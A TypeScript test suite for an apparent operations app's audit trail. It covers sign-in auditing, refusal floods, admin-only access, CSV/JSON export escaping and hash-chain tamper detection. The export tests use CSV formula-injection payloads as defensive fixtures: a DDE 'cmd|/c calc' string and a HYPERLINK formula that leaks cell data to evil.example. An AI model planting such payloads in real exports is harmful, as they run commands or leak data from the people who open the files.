import { cpSync, mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { AuditEvent, type ListEnvelope } from '@lifeboat/shared';
import { asc, eq, sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvCell } from '../src/actions/csv.ts';
import { runCli } from '../src/cli.ts';
import { REFUSALS_RECORDED_PER_WINDOW } from '../src/http/middleware/audit-refusals.ts';
import { appendAudit, verifyAuditChain, type AuditInput } from '../src/store/audit.ts';
import { openDatabase, type OpenDatabase } from '../src/store/database.ts';
import { auditEvents } from '../src/store/schema.ts';
import { get, login, PASSWORD, startStack, type Session, type Stack } from './harness.ts';
import { templateDataDir } from './template-db.ts';

let stack: Stack;
let admin: Session;
beforeAll(async () => {
  stack = await startStack({ simulators: 0 });
  admin = await login(stack.url, 'admin');
});
afterAll(() => stack.close());

type Page = ListEnvelope<AuditEvent>;

const signIn = (username: string, password: string, headers: Record<string, string> = {}) =>
  fetch(`${stack.url}/api/v1/auth/login`, {
    method: 'POST',
    headers: { 'Content-Type': 'application/json', Origin: stack.url, ...headers },
    body: JSON.stringify({ username, password }),
  });

const audit = (query: string, s: Session = admin) => get<Page>(stack.url, `/api/v1/audit${query}`, s);

/** The newest audit record matching the query. */
async function newest(query: string): Promise<AuditEvent> {
  const { status, body } = await audit(`?${query}&limit=1`);
  expect(status).toBe(200);
  expect(body.items).toHaveLength(1);
  return body.items[0]!;
}

/** Opens the stack's database while the BFF is stopped. */
function withDatabase<T>(fn: (db: OpenDatabase['db']) => Promise<T>): Promise<T> {
  return stack.whileStopped(async () => {
    const database = await openDatabase(stack.database);
    try {
      return await fn(database.db);
    } finally {
      await database.close();
    }
  });
}

/** RFC 4180 records: quoted cells may hold commas, doubled quotes and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      rows.push([...row, cell]);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  expect(cell).toBe('');
  return rows;
}

describe('signing in and out is audited', () => {
  it('records a successful sign-in with the actor, roles, outcome, request id and client', async () => {
    const res = await signIn('operator', PASSWORD, { 'User-Agent': 'audit-test/1.0' });
    expect(res.status).toBe(200);
    const e = await newest('action=sign_in&actor=operator');
    expect(e).toMatchObject({
      actor: 'operator',
      roles: ['operator'],
      action: 'sign_in',
      outcome: 'ok',
      requestId: res.headers.get('x-request-id'),
      params: { ip: expect.stringContaining('127.0.0.1'), userAgent: 'audit-test/1.0' },
    });
    expect(AuditEvent.parse(e)).toEqual(e);
  });

  it('records a wrong password and an unknown user as refused, with why', async () => {
    const wrong = await signIn('viewer', 'not the password');
    expect(wrong.status).toBe(401);
    expect(await newest('action=sign_in&actor=viewer')).toMatchObject({
      roles: ['viewer'],
      outcome: 'refused',
      requestId: wrong.headers.get('x-request-id'),
      params: { refusal: 'wrong password' },
    });

    const unknown = await signIn('nobody-here', 'whatever');
    expect(unknown.status).toBe(401);
    expect(await newest('action=sign_in&actor=nobody-here')).toMatchObject({
      roles: [],
      outcome: 'refused',
      requestId: unknown.headers.get('x-request-id'),
      params: { refusal: 'unknown user' },
    });
  });

  it('records a throttled sign-in once per wait, however many attempts follow', async () => {
    const username = 'hammered';
    for (let i = 0; i < 3; i++) expect((await signIn(username, 'guess')).status).toBe(401);
    const first = await signIn(username, 'guess');
    expect(first.status).toBe(429);
    expect((await signIn(username, 'guess')).status).toBe(429);
    expect((await signIn(username, 'guess')).status).toBe(429);

    const { body } = await audit(`?action=sign_in&actor=${username}&order=asc`);
    expect(body.items.map((e) => e.params?.refusal)).toEqual([
      ...Array<string>(3).fill('unknown user'),
      'throttled',
    ]);
    expect(body.items[3]).toMatchObject({
      outcome: 'refused',
      requestId: first.headers.get('x-request-id'),
      params: { retryAfterSeconds: expect.any(Number) },
    });
  });

  it('records a sign-out', async () => {
    const s = await login(stack.url, 'viewer');
    const res = await fetch(`${stack.url}/api/v1/auth/logout`, {
      method: 'POST',
      headers: {
        'Content-Type': 'application/json',
        Origin: stack.url,
        Cookie: s.cookie,
        'X-CSRF-Token': s.csrfToken,
      },
      body: '{}',
    });
    expect(res.status).toBe(204);
    expect(await newest('actor=viewer')).toMatchObject({
      action: 'sign_out',
      roles: ['viewer'],
      outcome: 'ok',
      requestId: res.headers.get('x-request-id'),
    });
  });

  it('records a CSRF refusal and a role refusal, with who and what was refused', async () => {
    const s = await login(stack.url, 'operator');
    const forged = await fetch(`${stack.url}/api/v1/auth/logout`, {
      method: 'POST',
      headers: {
        'Content-Type': 'application/json',
        Origin: stack.url,
        Cookie: s.cookie,
        'X-CSRF-Token': 'forged',
      },
      body: '{}',
    });
    expect(forged.status).toBe(403);
    expect(await newest('action=refused.csrf_failed&actor=operator')).toMatchObject({
      roles: ['operator'],
      target: 'POST /api/v1/auth/logout',
      outcome: 'refused',
      requestId: forged.headers.get('x-request-id'),
    });
    const denied = await get(stack.url, '/api/v1/audit', s);
    expect(denied.status).toBe(403);
    expect(await newest('action=refused.forbidden&actor=operator')).toMatchObject({
      target: 'GET /api/v1/audit',
      outcome: 'refused',
    });
  });
});

describe('a flood of refusals', () => {
  it('records the first of a minute one by one, then says once that the rest are only counted', async () => {
    const s = await login(stack.url, 'operator2');
    const forged = () =>
      fetch(`${stack.url}/api/v1/auth/logout`, {
        method: 'POST',
        headers: {
          'Content-Type': 'application/json',
          Origin: stack.url,
          Cookie: s.cookie,
          'X-CSRF-Token': 'x',
        },
        body: '{}',
      });
    const over = 8;
    for (let i = 0; i < REFUSALS_RECORDED_PER_WINDOW + over; i++) expect((await forged()).status).toBe(403);
    const of = async (action: string) =>
      (await audit(`?actor=operator2&action=${action}&limit=100`)).body.items;
    expect(await of('refused.csrf_failed')).toHaveLength(REFUSALS_RECORDED_PER_WINDOW);
    expect(await of('refused.many')).toEqual([
      expect.objectContaining({
        target: 'POST /api/v1/auth/logout',
        params: expect.objectContaining({ message: expect.stringContaining('are counted') }),
      }),
    ]);
  });
});

describe('reading the audit trail', () => {
  it('is for admins: 401 without a session, 403 for a viewer or an operator', async () => {
    expect((await fetch(`${stack.url}/api/v1/audit`)).status).toBe(401);
    for (const role of ['viewer', 'operator']) {
      const res = await audit('', await login(stack.url, role));
      expect(res.status, role).toBe(403);
      expect((res.body as unknown as { error: { code: string } }).error.code).toBe('forbidden');
      expect((await audit('?format=csv', await login(stack.url, role))).status).toBe(403);
    }
  });

  it('lists newest first in the list envelope, and pages, filters, searches and orders', async () => {
    const all = await audit('');
    expect(all.status).toBe(200);
    expect(all.body).toMatchObject({ total: expect.any(Number), sources: [], asOf: expect.any(String) });
    const seqs = all.body.items.map((e) => e.seq);
    expect(seqs).toEqual([...seqs].sort((a, b) => b - a));
    for (const e of all.body.items) expect(AuditEvent.parse(e)).toEqual(e);

    const first = await audit('?order=asc&limit=2');
    expect(first.body.items.map((e) => e.seq)).toEqual([1, 2]);
    expect(first.body.nextCursor).toEqual(expect.any(String));
    const second = await audit(`?order=asc&limit=2&cursor=${first.body.nextCursor}`);
    expect(second.body.items.map((e) => e.seq)).toEqual([3, 4]);
    expect((await audit('?cursor=bogus')).status).toBe(400);

    const refused = await audit('?action=sign_in&q=REFUSED');
    expect(refused.body.items.length).toBeGreaterThan(0);
    expect(refused.body.items.every((e) => e.outcome === 'refused')).toBe(true);
    // Search reaches into the parameters, and LIKE's wildcards are taken literally.
    expect((await audit('?q=wrong%20password')).body.items.map((e) => e.actor)).toEqual(['viewer']);
    expect((await audit('?q=%25')).body.total).toBe(0);
    expect((await audit('?unknown=1')).status).toBe(400);
  });

  it('records every read and export of the audit itself', async () => {
    await audit('?actor=viewer');
    expect(await newest('action=audit.read')).toMatchObject({
      actor: 'admin',
      roles: ['admin'],
      outcome: 'ok',
      params: { actor: 'viewer', order: 'desc' },
    });
    const csv = await fetch(`${stack.url}/api/v1/audit?format=csv&action=sign_out`, {
      headers: { Cookie: admin.cookie },
    });
    expect(csv.status).toBe(200);
    await csv.text();
    expect(await newest('action=audit.export')).toMatchObject({
      actor: 'admin',
      params: { action: 'sign_out', format: 'csv' },
    });
  });
});

describe('exporting the audit trail', () => {
  const hostile: Partial<AuditInput> = {
    actor: '@cmd|/c calc',
    target: '-2+3+cmd|"/C calc"!A0',
    reason: 'failing over, as "agreed"\nwith the on-call lead',
    ticket: '+INC-42',
    params: { note: '=1+1' },
  };

  it('neutralises formula cells and quotes commas, quotes and line breaks (RFC 4180)', async () => {
    const hyperlink = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")';
    expect((await signIn(hyperlink, 'x')).status).toBe(401);
    await withDatabase((db) =>
      appendAudit(db, {
        roles: ['operator'],
        action: 'operation.request',
        outcome: 'ok',
        ...hostile,
      } as AuditInput),
    );
    admin = await login(stack.url, 'admin');

    const res = await fetch(`${stack.url}/api/v1/audit?format=csv&order=asc`, {
      headers: { Cookie: admin.cookie },
    });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toMatch(
      /^attachment; filename="lifeboat-audit-\d{8}T\d{6}Z\.csv"$/,
    );
    const text = await res.text();
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click me"")"`);
    expect(text).toContain('"failing over, as ""agreed""\nwith the on-call lead"');

    const [header, ...rows] = parseCsv(text);
    expect(header).toEqual([
      'seq',
      'at',
      'actor',
      'roles',
      'action',
      'target',
      'params',
      'reason',
      'ticket',
      'outcome',
      'requestId',
      'correlation',
      'prevHash',
      'hash',
    ]);
    expect(rows.map((r) => Number(r[0]))).toEqual(rows.map((_, i) => i + 1));
    expect(rows.find((r) => r[2] === `'${hyperlink}`)).toBeDefined();
    const row = rows.find((r) => r[2] === `'${hostile.actor}`);
    expect(row).toBeDefined();
    expect(row!.slice(2, 9)).toEqual([
      `'${hostile.actor}`,
      'operator',
      'operation.request',
      `'${hostile.target}`,
      '{"note":"=1+1"}',
      hostile.reason,
      `'${hostile.ticket}`,
    ]);
    // No cell anywhere starts a formula.
    for (const r of rows) for (const cell of r) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('exports JSON: every matching record, not one page', async () => {
    const res = await fetch(`${stack.url}/api/v1/audit?format=json&action=sign_in&limit=1`, {
      headers: { Cookie: admin.cookie },
    });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('application/json; charset=utf-8');
    expect(res.headers.get('content-disposition')).toMatch(
      /^attachment; filename="lifeboat-audit-.*\.json"$/,
    );
    const events = AuditEvent.array().parse(await res.json());
    expect(events.length).toBeGreaterThan(5);
    expect(events.every((e) => e.action === 'sign_in')).toBe(true);
    expect((await audit('?action=sign_in')).body.total).toBe(events.length);
  });

  it('escapes cells as spreadsheets need', () => {
    expect(csvCell('plain')).toBe('plain');
    expect(csvCell('=SUM(A1:A2)')).toBe("'=SUM(A1:A2)");
    expect(csvCell('+1')).toBe("'+1");
    expect(csvCell('-1')).toBe("'-1");
    expect(csvCell('@A1')).toBe("'@A1");
    expect(csvCell('\tx')).toBe("'\tx");
    expect(csvCell('\rx')).toBe(`"'\rx"`);
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell('')).toBe('');
  });
});

describe('the hash chain', () => {
  it('verifies; an altered record is found, by seq, by the function and by the command', async () => {
    const command = async () => {
      const lines: string[] = [];
      const where = stack.database.url
        ? ['--database-url', stack.database.url]
        : ['--data-dir', stack.database.dataDir];
      const code = await runCli(['verify-audit', ...where], {
        print: (l) => lines.push(l),
        printError: (l) => lines.push(l),
      });
      return { code, lines };
    };
    const inDatabase = async <T>(fn: (db: OpenDatabase['db']) => Promise<T>) => {
      const database = await openDatabase(stack.database);
      try {
        return await fn(database.db);
      } finally {
        await database.close();
      }
    };

    await stack.whileStopped(async () => {
      const { seq, count } = await inDatabase(async (db) => {
        const before = await verifyAuditChain(db);
        expect(before).toMatchObject({ ok: true, count: expect.any(Number) });
        const [victim] = await db
          .select({ seq: auditEvents.seq })
          .from(auditEvents)
          .where(eq(auditEvents.outcome, 'refused'))
          .orderBy(asc(auditEvents.seq))
          .limit(1);
        await db.execute(sql`UPDATE audit_events SET outcome = 'ok' WHERE seq = ${victim!.seq}`);
        expect(await verifyAuditChain(db)).toEqual({
          ok: false,
          seq: victim!.seq,
          problem: 'hash does not match the record (it was altered)',
        });
        return { seq: victim!.seq, count: before.ok ? before.count : 0 };
      });
      expect(await command()).toEqual({
        code: 1,
        lines: [`audit chain BROKEN at seq ${seq}: hash does not match the record (it was altered)`],
      });

      // Put back, the chain holds again.
      await inDatabase((db) =>
        db.execute(sql`UPDATE audit_events SET outcome = 'refused' WHERE seq = ${seq}`),
      );
      expect(await command()).toEqual({
        code: 0,
        lines: [
          expect.stringMatching(new RegExp(`^audit chain ok: ${count} events, head ${count}:[0-9a-f]{64}$`)),
        ],
      });
    });
  });

  it('the command refuses a folder that holds no database, and a missing argument', async () => {
    const errors: string[] = [];
    const io = { print: () => undefined, printError: (l: string) => errors.push(l) };
    const dir = mkdtempSync(join(tmpdir(), 'lifeboat-not-a-db-'));
    try {
      expect(await runCli(['verify-audit', '--data-dir', dir], io)).toBe(2);
      expect(await runCli(['verify-audit'], io)).toBe(2);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
    expect(errors[0]).toMatch(/is not a Lifeboat data folder/);
    expect(errors[1]).toMatch(
      /^no config: give --config FILE or set LIFEBOAT_CONFIG\nusage: lifeboat verify-audit \[--config FILE \| --data-dir DIR \| --database-url URL\]/,
    );
  });
});

describe('appending under concurrency', () => {
  let dir: string;
  let database: OpenDatabase;
  beforeAll(async () => {
    dir = mkdtempSync(join(tmpdir(), 'lifeboat-audit-'));
    cpSync(templateDataDir, dir, { recursive: true });
    database = await openDatabase({ dataDir: dir });
  });
  afterAll(async () => {
    await database.close();
    rmSync(dir, { recursive: true, force: true });
  });

  const event = (i: number): AuditInput => ({
    actor: `user-${i}`,
    roles: ['operator'],
    action: 'test.append',
    target: `plan-${i}`,
    params: { i, nested: { b: 2, a: [1, 'x', null] }, tiny: 1e-7, big: 1e21, text: 'ü\u2028é' },
    outcome: 'ok',
    requestId: `req-${i}`,
  });

  it('20 concurrent appends, alone or in callers’ transactions, get seq 1..20 in one unbroken chain', async () => {
    const db = database.db;
    const appended = await Promise.all(
      Array.from({ length: 20 }, (_, i) =>
        i % 2 ? appendAudit(db, event(i)) : db.transaction((tx) => appendAudit(tx, event(i))),
      ),
    );
    expect(appended.map((e) => e.seq).sort((a, b) => a - b)).toEqual(
      Array.from({ length: 20 }, (_, i) => i + 1),
    );
    const bySeq = [...appended].sort((a, b) => a.seq - b.seq);
    expect(bySeq[0]!.prevHash).toBe('0'.repeat(64));
    for (let i = 1; i < 20; i++) expect(bySeq[i]!.prevHash).toBe(bySeq[i - 1]!.hash);
    expect(await verifyAuditChain(db)).toMatchObject({ ok: true, count: 20 });
  });

  it('a record commits with the change it describes or not at all', async () => {
    const db = database.db;
    await expect(
      db.transaction(async (tx) => {
        await appendAudit(tx, event(99));
        throw new Error('the change failed');
      }),
    ).rejects.toThrow('the change failed');
    const next = await appendAudit(db, event(21));
    expect(next.seq).toBe(21);
    expect(await verifyAuditChain(db)).toMatchObject({ ok: true, count: 21 });
  });

  it('refuses a record without its required fields, and stores what PostgreSQL cannot hold as U+FFFD', async () => {
    const db = database.db;
    await expect(appendAudit(db, { ...event(1), actor: '' })).rejects.toThrow();
    await expect(
      appendAudit(db, { ...event(1), outcome: undefined } as unknown as AuditInput),
    ).rejects.toThrow();
    const odd = await appendAudit(db, { ...event(22), actor: 'nul\u0000here', params: { s: 'lone \uD800' } });
    expect(odd.actor).toBe('nul\uFFFDhere');
    expect(await verifyAuditChain(db)).toMatchObject({ ok: true, count: 22 });
  });

  it('a deleted record breaks the chain at its seq', async () => {
    const db = database.db;
    await db.execute(sql`delete from audit_events where seq = 7`);
    expect(await verifyAuditChain(db)).toEqual({
      ok: false,
      seq: 7,
      problem: 'missing (the next record is seq 8)',
    });
  });
});
